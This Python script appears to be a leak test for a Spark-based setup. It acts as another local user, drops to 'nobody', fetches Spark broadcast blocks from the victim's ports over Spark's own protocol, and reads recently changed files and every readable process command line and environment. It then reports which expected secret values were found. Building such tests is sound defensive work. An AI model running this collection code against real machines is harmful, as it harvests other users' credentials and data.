"""Another user of the machine, who collects what Spark and the kit leave to everybody: run as a process of its own.

It asks each port of this machine on which the victim listens for Spark's broadcasts, in Spark's own protocol, and reads
every file and command line that it may read. Python's standard library is all that it needs.
"""

from __future__ import annotations

import encodings.idna  # noqa: F401  (for host names: later this process may not read Python's library)
import json
import os
import socket
import struct
import sys
from collections.abc import Iterator
from pathlib import Path

NOBODY = 65_534
BROADCASTS = 40
PATIENCE_S = 3.0
# Of Spark's TransportProtocol: types of messages.
_FETCH_CHUNK, _CHUNK, _RPC, _RPC_ANSWER = 0, 1, 3, 4
_OPEN_BLOCKS = 0


def become_nobody() -> None:
    """Give up root's rights, if this process has them."""
    if os.getuid() == 0:
        os.setgroups([])
        os.setgid(NOBODY)
        os.setuid(NOBODY)


def ports_of(pid: int) -> list[int]:
    """The ports on which the process of this id, or one below it, listens. Root looks; anybody could try all ports."""
    sockets = set()
    for process in [pid, *_below(pid)]:
        for link in Path(f"/proc/{process}/fd").iterdir():
            try:
                sockets.add(os.readlink(link))
            except OSError:
                continue
    found = set()
    for table in ("tcp", "tcp6"):
        for line in Path(f"/proc/net/{table}").read_text().splitlines()[1:]:
            fields = line.split()
            if fields[3] == "0A" and f"socket:[{fields[9]}]" in sockets:
                found.add(int(fields[1].rpartition(":")[2], 16))
    return sorted(found)


def _below(pid: int) -> Iterator[int]:
    for task in Path(f"/proc/{pid}/task").iterdir():
        for child in (task / "children").read_text().split():
            yield int(child)
            yield from _below(int(child))


def blocks_at(port: int) -> bytes:
    """All pieces of broadcasts that a block manager at this port gives to a stranger."""
    got = b""
    try:
        for broadcast in range(BROADCASTS):
            piece = 0
            while chunk := _block(port, f"broadcast_{broadcast}_piece{piece}"):
                got, piece = got + chunk, piece + 1
    except (OSError, EOFError):  # something else listens there
        pass
    return got


def _block(port: int, name: str) -> bytes:
    opening = struct.pack("!B", _OPEN_BLOCKS) + _text("app") + _text("nobody") + struct.pack("!i", 1) + _text(name)
    with socket.create_connection(("127.0.0.1", port), PATIENCE_S) as sock:
        sock.sendall(_frame(struct.pack("!Bqi", _RPC, 7, len(opening)) + opening))
        answer = _receive(sock)
        if answer[0] != _RPC_ANSWER:  # an error: there is no such block, or none for us
            return b""
        (stream,) = struct.unpack("!q", answer[14:22])
        sock.sendall(_frame(struct.pack("!Bqi", _FETCH_CHUNK, stream, 0)))
        chunk = _receive(sock)
        return chunk[13:] if chunk[0] == _CHUNK else b""


def _text(text: str) -> bytes:
    return struct.pack("!i", len(text)) + text.encode()


def _frame(body: bytes) -> bytes:
    return struct.pack("!q", len(body) + 8) + body


def _receive(sock: socket.socket) -> bytes:
    (size,) = struct.unpack("!q", _exactly(sock, 8))
    if not 8 < size < 1 << 28:
        raise EOFError
    return _exactly(sock, size - 8)


def _exactly(sock: socket.socket, count: int) -> bytes:
    got = b""
    while len(got) < count:
        part = sock.recv(count - len(got))
        if not part:
            raise EOFError
        got += part
    return got


def files_below(places: list[str], since_s: float) -> Iterator[bytes]:
    """Yield the content of recently changed files that this user can read."""
    for place in places:
        for directory, _, names in os.walk(place):
            for name in names:
                try:
                    path = Path(directory, name)
                    if path.is_file() and path.stat().st_mtime >= since_s:
                        yield path.read_bytes()
                except OSError:
                    continue


def command_lines() -> Iterator[bytes]:
    for process in Path("/proc").glob("[0-9]*"):
        for name in ("cmdline", "environ"):
            try:
                yield (process / name).read_bytes()
            except OSError:
                continue


def main() -> None:
    """Collect as another user, and print per way which of the texts wanted (in hexadecimal) were among the loot."""
    told = json.loads(sys.stdin.read())
    wanted = {name: bytes.fromhex(value) for name, value in told["wanted"].items()}
    ports = ports_of(told["victim"])
    become_nobody()
    loot = {
        "blocks": b"".join(map(blocks_at, ports)),
        "files": b"\0".join(files_below(told["places"], told["since_s"])),
        "processes": b"\0".join(command_lines()),
    }
    found = {way: sorted(name for name, value in wanted.items() if value in got) for way, got in loot.items()}
    print(json.dumps({"uid": os.getuid(), "ports": len(ports), "found": found}))


if __name__ == "__main__":
    main()
